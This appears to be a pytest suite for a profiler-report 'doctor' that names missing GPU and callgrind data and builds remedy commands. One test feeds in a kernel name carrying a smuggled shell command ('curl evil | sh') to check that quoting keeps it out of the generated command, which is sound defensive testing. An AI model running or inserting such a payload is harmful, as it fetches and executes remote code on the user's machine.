"""The doctor says what is missing, what that disables, and the command that mends it."""

import re
import shlex
from dataclasses import replace

import pytest
from profile_builder import counted, cpu, function, gpu, launch, sampled

from analysis.pipeline import analyse
from analysis.types import DoctorNote, LaunchDetail, Profile

TEXT = "\n".join(f"line {number}" for number in range(1, 31))
PLACED = [sampled("/p/k.cu:5", 0, wait=500)]
UNPLACED = [sampled(None, 0, wait=500)]


def notes(profile: Profile, **sources: str) -> list[DoctorNote]:
    return list(analyse(profile, {name.replace("_", "."): text for name, text in sources.items()}).doctor)


def said(profile: Profile, words: str, **sources: str) -> DoctorNote | None:
    return next((note for note in notes(profile, **sources) if words in note.message), None)


def test_shares_of_a_part_are_called_shares_of_a_part():
    assert said(gpu(launch("k", 1)), "among the profiled launches")
    assert not said(cpu(function("f", counted("f", None, Ir=1))), "among the profiled launches")


def test_what_could_not_be_read_of_a_launch_is_said_and_bounded():
    launches = [launch(f"k{n}", 1) for n in range(30)]
    wounded = [replace(each, load=lambda: LaunchDetail({}, warnings=("A metric is damaged.",))) for each in launches]
    found = [note for note in notes(gpu(*wounded)) if note.message == "A metric is damaged."]
    assert len(found) == 20
    assert found[0].severity == "warning"


@pytest.mark.parametrize(("locked", "note"), [(False, True), (True, False), (None, False)])
def test_clocks_that_were_not_locked_are_named(locked: bool | None, note: bool):
    found = said(gpu(launch("k", 1), clocks_locked=locked), "Clocks were not locked")
    assert (found is not None) is note
    assert found is None or "--clock-control base" in found.remedy


def test_a_report_without_samples_names_the_command_for_its_hot_kernels():
    found = said(gpu(launch("big", 9), launch("tiny", 1)), "no warp samples")
    assert found and found.page == "stalls"
    assert found.remedy == "ncu --set full --import-source yes -k 'regex:^(big)$' -c 3 -o report ./program"


def test_the_command_counts_the_launches_of_all_kernels_together():
    found = said(gpu(*(launch(name, 3) for name in ("a", "b", "c"))), "no warp samples")
    assert found and found.remedy == "ncu --set full --import-source yes -k 'regex:^(a|b|c)$' -c 9 -o report ./program"


def test_a_name_cannot_leave_its_quotes_in_the_command():
    found = said(gpu(launch("k'; curl evil | sh; '", 3)), "no warp samples")
    words = shlex.split(found.remedy if found else "")
    assert words[words.index("-k") + 2] == "-c"
    assert re.search(words[words.index("-k") + 1].removeprefix("regex:"), "k'; curl evil | sh; '")


def test_samples_on_code_without_lines_are_counted():
    found = said(gpu(launch("k", 1, [*PLACED, sampled(None, 16, wait=80)])), "lie on code without lines")
    assert found and "k: 14% of the stalled samples" in found.message
    assert not said(gpu(launch("k", 1, [*PLACED, sampled(None, 16, wait=20)])), "lie on code without lines")


def test_tensor_work_is_not_asked_for_again():
    """A full report does not count it, so the same command would help nobody."""
    tensor = {"sm__inst_executed_pipe_tensor_op_imma.sum": 1000.0, "dram__bytes.sum.per_second": 1e11}
    profile = gpu(launch("k", 1, PLACED, tensor))
    assert said(profile, "the work of the tensor cores is not counted")
    assert not said(profile, "no complete counters")


def test_samples_without_lines_ask_for_lineinfo():
    found = said(gpu(launch("k", 1, UNPLACED)), "has no source lines")
    assert found and "-lineinfo" in found.remedy
    assert not said(gpu(launch("k", 1, PLACED)), "has no source lines")


def test_lines_without_text_ask_for_the_sources():
    assert said(gpu(launch("k", 1, PLACED)), "known by number only")
    assert not said(gpu(launch("k", 1, PLACED)), "known by number only", k_cu=TEXT)


def test_few_samples_are_named():
    found = said(gpu(launch("shortLived", 1, [sampled("/p/k.cu:5", 0, wait=7)])), "only 7 stalled samples")
    assert found and found.severity == "warning"


def test_samples_that_could_not_be_placed_are_counted():
    from dataclasses import replace

    whole = launch("k", 1, PLACED)
    detail = replace(whole.load(), samples_total=600)
    assert said(gpu(replace(whole, load=lambda: detail)), "500 of 600 samples could be placed")
    assert not said(gpu(whole), "could be placed")


def test_missing_counters_of_work_are_named_for_the_hot_kernels():
    found = said(gpu(launch("k", 1, PLACED)), "no complete counters")
    assert found and found.page == "roofline" and "--set full" in found.remedy


def test_launches_without_a_time_are_counted():
    assert said(gpu(launch("k", 1), launch("k", None)), "1 of 2 launches have no time")


def test_callgrind_without_caches_names_the_options():
    found = said(cpu(function("f", counted("f", "a.cpp:1", Ir=1))), "without its cache simulation")
    assert found and "--cache-sim=yes --I1=32768,8,64 --D1=32768,8,64 --LL=8388608,16,64" in found.remedy
    assert not said(cpu(function("f", counted("f", "a.cpp:1", Ir=1, D1mr=1))), "without its cache simulation")


def test_callgrind_without_lines_asks_for_debug_information():
    found = said(cpu(function("f", counted("f", None, Ir=1, D1mr=1))), "No hot function has source lines")
    assert found and "-g" in found.remedy


def test_a_run_that_hardly_reached_the_users_functions_is_a_warning():
    profile = cpu(
        function("loader", counted("loader", None, Ir=900, D1mr=1)),
        function("f", counted("f", "k.cu:1", Ir=90, D1mr=1)),
    )
    found = said(profile, "which hold 10% of all cycles", k_cu="void f() { work(); }\n")
    assert found and found.severity == "warning"


def test_cheap_functions_outside_the_sources_are_counted_instead_of_listed():
    tiny = [function(f"t{n}", counted(f"t{n}", None, Ir=1)) for n in range(5)]
    profile = cpu(function("f", counted("f", "k.cu:1", Ir=100_000)), *tiny)
    assert [each.kernel.short_name for each in analyse(profile, {}).kernels] == ["f"]
    assert said(profile, "5 functions outside the sources")


def test_the_readers_warnings_are_passed_on_and_the_gravest_comes_first():
    found = notes(gpu(launch("k", 1, PLACED), warnings=("Launch 3 is damaged and left out.",)))
    assert found[0].severity == "warning"
    assert any(note.message == "Launch 3 is damaged and left out." for note in found)
    assert all(note.remedy for note in found)


def test_a_hot_main_is_said_to_stay_as_it_is():
    lines = [counted("main", "k.cu:3", Ir=90, D1mr=1)]
    found = said(cpu(function("main", *lines)), "main itself holds 100% of all cycles", k_cu=TEXT)
    assert found and found.severity == "warning" and "functions of their own" in found.remedy
    assert not said(cpu(function("f", counted("f", "k.cu:3", Ir=90, D1mr=1))), "main itself", k_cu=TEXT)


@pytest.mark.parametrize("starter", ["pthread_create@@GLIBC_2.34", "GOMP_parallel", "__kmpc_fork_call"])
def test_threads_are_said_to_run_one_after_the_other(starter: str):
    hot = function("f", counted("f", "k.cu:3", Ir=90, D1mr=1))
    assert said(cpu(hot, function(starter, counted(starter, None, Ir=1))), "runs one after the other")
    assert not said(cpu(hot), "runs one after the other")
